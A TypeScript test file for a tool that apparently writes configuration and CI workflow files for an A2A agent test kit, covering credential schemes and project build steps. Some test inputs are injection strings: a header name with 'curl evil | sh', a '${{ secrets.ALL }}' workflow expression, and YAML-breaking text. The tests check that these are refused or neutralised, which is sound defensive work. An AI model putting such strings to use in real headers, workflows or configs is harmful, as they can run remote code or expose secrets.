import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { dialectById } from '../dialect/index.js';
import { type Card, unknownCard } from '../model/index.js';
import type { Detected } from '../run/index.js';
import { configText } from './config-text.js';
import { credentialNeeds } from './credentials.js';
import { projectOf } from './project.js';
import { workflowText } from './workflow.js';

type Schemes = Card['securitySchemes'];
const needing = (securitySchemes: Schemes, ...security: Card['security']): Card => ({
  ...unknownCard,
  securitySchemes,
  security,
});

const dialect = dialectById('a2a-1.0');
function found(card: Partial<Card>): Detected {
  if (dialect === undefined) throw new Error('no such dialect');
  const target = {
    url: 'http://a.test',
    endpoint: 'http://a.test/',
    cardUrl: undefined,
    card: { ...unknownCard, ...card },
    cardDocument: undefined,
    cardExchange: undefined,
    origins: [],
  };
  return {
    dialect,
    target,
    evidence: [],
    isAgent: true,
    probed: undefined,
    redirect: undefined,
    interfaces: [],
    others: [],
    tenant: undefined,
  };
}

describe('credentials', () => {
  test.for<[string, Card, readonly string[]]>([
    ['none', unknownCard, []],
    ['declared, not required', needing({ a: { type: 'http', scheme: 'bearer' } }), []],
    ['a bearer token', needing({ a: { type: 'http', scheme: 'Bearer' } }, { a: [] }), ['bearer-env: AGENT_TOKEN']],
    ['OAuth', needing({ a: { type: 'oauth2' } }, { a: ['read'] }), ['bearer-env: AGENT_TOKEN']],
    [
      'Basic',
      needing({ a: { type: 'http', scheme: 'basic' } }, { a: [] }),
      ['--header "Authorization: Basic $AGENT_KEY"'],
    ],
    [
      'a header',
      needing({ a: { type: 'apiKey', in: 'header', name: 'X-Key' } }, { a: [] }),
      ['--header "X-Key: $AGENT_KEY"'],
    ],
    [
      'a cookie',
      needing({ a: { type: 'apiKey', in: 'cookie', name: 'sid' } }, { a: [] }),
      ['--header "Cookie: sid=$AGENT_KEY"'],
    ],
    ['the URL', needing({ a: { type: 'apiKey', in: 'query', name: 'key' } }, { a: [] }), ['query-env: key=AGENT_KEY']],
    [
      'the first alternative that can be served',
      needing({ a: { type: 'mutualTLS' }, b: { type: 'oauth2' } }, { a: [] }, { b: [] }),
      ['bearer-env: AGENT_TOKEN'],
    ],
    [
      'two at once',
      needing({ a: { type: 'oauth2' }, b: { type: 'apiKey', in: 'query', name: 'k' } }, { a: [], b: [] }),
      ['bearer-env: AGENT_TOKEN', 'query-env: k=AGENT_KEY'],
    ],
  ])('%s', ([, card, expected]) => {
    const { credentials, isOpen } = credentialNeeds(card);
    expect(credentials.map(({ setting, argument }) => setting ?? argument)).toEqual(expected);
    expect(isOpen).toBe(false);
  });

  test('OAuth by client credentials, where the card says where tokens come from', () => {
    const card = needing({ a: { type: 'oauth2' } }, { a: ['read'] });
    const flows = { clientCredentials: { tokenUrl: 'https://login.example/token', scopes: {} } };
    const document = {
      securitySchemes: { a: { oauth2SecurityScheme: { flows } } },
      securityRequirements: [{ schemes: { a: { list: ['read'] } } }],
    };
    expect(credentialNeeds(card, document).credentials.map(({ setting }) => setting)).toEqual([
      'oauth-client-id-env: AGENT_CLIENT_ID',
      'oauth-client-secret-env: AGENT_CLIENT_SECRET',
    ]);
    const textFor = (url: string): string => {
      const { target, ...rest } = found(card);
      return configText(url, { ...rest, target: { ...target, url, cardDocument: document } }, 'schema');
    };
    // The card does not decide where the secret goes: the user does.
    expect(textFor('https://agent.example')).toContain('\n# allow-origin: https://login.example\n');
    expect(textFor('https://login.example')).not.toContain('allow-origin');
    expect(parse(textFor('https://agent.example'))).toMatchObject({ 'oauth-client-id-env': 'AGENT_CLIENT_ID' });
    const device = { securitySchemes: { a: { oauth2SecurityScheme: { flows: { deviceCode: {} } } } } };
    expect(credentialNeeds(card, device).credentials.map(({ setting }) => setting)).toEqual([
      'bearer-env: AGENT_TOKEN',
    ]);
  });

  test.for<[string, Card]>([
    ['a scheme that is not there', needing({}, { a: [] })],
    ['a name from birth', needing({}, { constructor: [], toString: [] })],
    ['a certificate', needing({ a: { type: 'mutualTLS' } }, { a: [] })],
    ['a name for a shell', needing({ a: { type: 'apiKey', in: 'header', name: 'X"; curl evil | sh; "' } }, { a: [] })],
    ['a name for a workflow', needing({ a: { type: 'apiKey', in: 'query', name: `\${{ secrets.ALL }}` } }, { a: [] })],
  ])('%s is left open', ([, card]) => {
    expect(credentialNeeds(card)).toEqual({ credentials: [], isOpen: true });
  });
});

describe('the configuration', () => {
  test('says what was found, and hints at what the card claims', () => {
    const card: Partial<Card> = {
      name: 'Agent',
      capabilities: {
        streaming: true,
        push: true,
        extendedCard: false,
        extensions: [{ uri: 'https://github.com/google-a2a/a2a-x402/v0.1', required: false }],
      },
    };
    const text = configText('http://a.test', found(card), 'https://schema.test');
    expect(text).toMatch(/^# yaml-language-server: \$schema=https:\/\/schema\.test\n/);
    for (const words of [
      'It claims streaming, push notifications.',
      '# webhook-url:',
      '# x402: true',
      '#   working:',
    ]) {
      expect(text).toContain(words);
    }
    expect(parse(text)).toEqual({ url: 'http://a.test', profile: 'a2a-1.0' });
  });

  test('without an agent it is a template', () => {
    expect(parse(configText(undefined, undefined, 'x'))).toEqual({
      url: 'http://localhost:4000',
      profile: 'auto',
    });
  });

  test('foreign text stays in its comment', () => {
    const hostile = 'A\nurl: http://evil.test\n\u2028strict: true\u0085x: 1\u001b[2J';
    const text = configText('http://a.test/"\nx: 1', found({ name: hostile, version: hostile }), 'x');
    expect(parse(text)).toEqual({ url: 'http://a.test/"\\nx: 1', profile: 'a2a-1.0' });
    expect(text).not.toMatch(/[^\P{Cc}\n]|\p{Zl}|\p{Zp}/u);
  });
});

test('workflows are YAML, run the version that wrote them, and name the secrets', () => {
  const { credentials } = credentialNeeds(needing({ a: { type: 'apiKey', in: 'header', name: 'X-Key' } }, { a: [] }));
  interface Step {
    readonly run?: string;
    readonly env?: Readonly<Record<string, string>>;
  }
  const github = parse(workflowText('github', '1.2.3', credentials)) as {
    jobs: { 'a2a-tck': { steps: readonly Step[] } };
  };
  const step = github.jobs['a2a-tck'].steps.find(({ run }) => run !== undefined);
  expect(step?.run).toMatch(
    /^npx --yes a2a-tck@1\.2\.3 --config a2a-tck\.config\.yaml --wait 60 .* --header "X-Key: \$AGENT_KEY"\n$/,
  );
  expect(step?.env).toEqual({ AGENT_KEY: `\${{ secrets.AGENT_KEY }}` });
  const gitlab = parse(workflowText('gitlab', '1.2.3', credentials)) as { 'a2a-tck': { script: readonly string[] } };
  expect(gitlab['a2a-tck'].script).toEqual([step?.run]);
});

interface Workflow {
  readonly jobs: {
    readonly 'a2a-tck': { readonly steps: readonly { readonly name?: string; readonly run?: string }[] };
  };
}

test.for<[string, Readonly<Record<string, string>>, string, string]>([
  ['Go', { 'go.mod': 'module a', 'package.json': '{}' }, 'go build -o agent .', './agent'],
  ['Rust', { 'Cargo.toml': '' }, 'cargo build --release', 'cargo run --release'],
  ['Maven', { 'pom.xml': '<project/>' }, 'mvn -q -B package -DskipTests', 'java -jar target/*.jar'],
  [
    'Quarkus',
    { 'pom.xml': '<groupId>io.quarkus</groupId>' },
    'mvn -q -B package -DskipTests',
    'java -jar target/quarkus-app/quarkus-run.jar',
  ],
  ['Gradle', { 'build.gradle': '', gradlew: '' }, './gradlew build -x test', './gradlew run'],
  ['Spring Boot', { 'build.gradle.kts': 'id("org.springframework.boot")' }, 'gradle bootJar', 'gradle bootRun'],
  [
    'Python',
    { 'pyproject.toml': '[project]\nname = "my-agent"\n' },
    'python3 -m venv .venv\n.venv/bin/pip install .',
    '.venv/bin/python -m my_agent',
  ],
  [
    'Python with a command',
    { 'pyproject.toml': '[project]\nname = "x"\n\n[project.scripts]\nserve-it = "a:b"\n' },
    'python3 -m venv .venv\n.venv/bin/pip install .',
    '.venv/bin/serve-it',
  ],
  ['Node', { 'package.json': '{}', 'package-lock.json': '{}' }, 'npm ci\nnpm run build --if-present', 'npm start'],
])('a project of %s is built and started in the workflow', ([, files, build, start]) => {
  const project = projectOf((name) => files[name]);
  const { steps } = (parse(workflowText('github', '1.2.3', [], project)) as Workflow).jobs['a2a-tck'];
  const script = (name: string) => steps.find((step) => step.name === name)?.run?.trim();
  expect(script('Build the agent')).toBe(build);
  expect(script('Start the agent')).toBe(`nohup ${start} > agent.log 2>&1 &`);
  const gitlab = parse(workflowText('gitlab', '1.2.3', [], project)) as { 'a2a-tck': { script: readonly string[] } };
  expect(gitlab['a2a-tck'].script[0]).toBe(`${build}\n${start} > agent.log 2>&1 &\n`);
});

test('a folder of no known kind leaves the start to the user', () => {
  expect(projectOf(() => undefined)).toBeUndefined();
  expect(workflowText('github', '1.2.3', [])).toContain('# Start your agent here');
});

test('what was given to reach the agent is written down', () => {
  const reached = {
    caFile: 'a: b.pem',
    certFile: 'kit.pem',
    keyFile: 'kit.key',
    insecure: true,
    resolve: ['a.test:::1'],
  };
  expect(parse(configText('https://a.test', undefined, 'schema', reached))).toMatchObject({
    'ca-file': 'a: b.pem',
    'cert-file': 'kit.pem',
    'key-file': 'kit.key',
    insecure: true,
    resolve: ['a.test:::1'],
  });
  expect(configText('https://a.test', undefined, 'schema', {})).not.toContain('docs/networks.md');
});
